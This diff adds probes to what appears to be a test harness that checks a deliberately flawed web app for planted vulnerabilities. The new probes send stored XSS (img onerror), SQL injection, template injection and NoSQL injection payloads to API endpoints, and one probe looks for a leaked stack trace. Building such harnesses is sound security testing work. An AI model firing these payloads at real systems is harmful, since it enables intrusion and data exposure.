@@ -598,6 +598,41 @@ export const PROBES: Record<FlawId, Probe> = {
       return r(c.status === 200 && c.text.includes('root:'), brief(c));
     },
   },
+  'pinboard-html': {
+    async run(t) {
+      const text = `<img src=x onerror=alert(${uniq()})>`;
+      const c = await call(t, 'POST', '/api/v2/pins', { key: t.users.alice.key, body: { text } });
+      const view = await call(t, 'GET', '/api/v2/pins?format=html', { key: t.users.alice.key });
+      const wall = await call(t, 'GET', '/api/v2/pinboard', { key: t.users.alice.key });
+      return r(c.status === 201 && view.text.includes(text) && wall.text.includes(text), brief(view));
+    },
+  },
+  'lookup-traceback': {
+    async run(t) {
+      const c = await call(t, 'GET', '/api/v2/gift-cards/GC-7F3A-2B91', { key: t.users.alice.key });
+      return r(c.status === 500 && /at .+:\d+:\d+/.test(c.text), brief(c));
+    },
+  },
+  'sqli-search-hidden': {
+    async run(t) {
+      const plain = await call(t, 'GET', '/api/v2/recipes?q=', { key: t.users.alice.key });
+      const open = await call(t, 'GET', `/api/v2/recipes?q=${encodeURIComponent("'))-- ")}`, { key: t.users.alice.key });
+      return r(open.status === 200 && open.json.items.length > plain.json.items.length, `${plain.json.items.length} -> ${open.json?.items?.length}`);
+    },
+  },
+  'template-injection': {
+    async run(t) {
+      const c = await call(t, 'POST', '/api/v2/cards/preview', { key: t.users.alice.key, body: { message: 'total: ${6*7}' } });
+      return r(c.status === 200 && c.json?.preview === 'total: 42', brief(c));
+    },
+  },
+  'nosql-where-number': {
+    async run(t) {
+      const one = await call(t, 'GET', '/api/v2/stores/1/reviews');
+      const all = await call(t, 'GET', `/api/v2/stores/${encodeURIComponent('1 || 1===1')}/reviews`);
+      return r(all.status === 200 && all.json.items.length > one.json.items.length, `${one.json?.items?.length} -> ${all.json?.items?.length}`);
+    },
+  },
   'stored-html': {
     async run(t) {
       const id = await createNote(t, `<img src=x onerror=alert(${uniq()})>`);
